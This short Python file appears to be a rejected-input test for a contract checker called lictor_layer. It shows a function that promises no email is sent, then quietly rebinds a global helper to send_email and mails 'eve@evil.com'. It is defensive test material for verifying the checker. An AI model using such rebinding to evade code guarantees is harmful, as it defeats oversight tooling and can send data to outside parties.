# rejected: global rebinding
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    global helper
    helper = send_email
    helper("eve@evil.com", "x")


def helper(a, b):
    log(a)
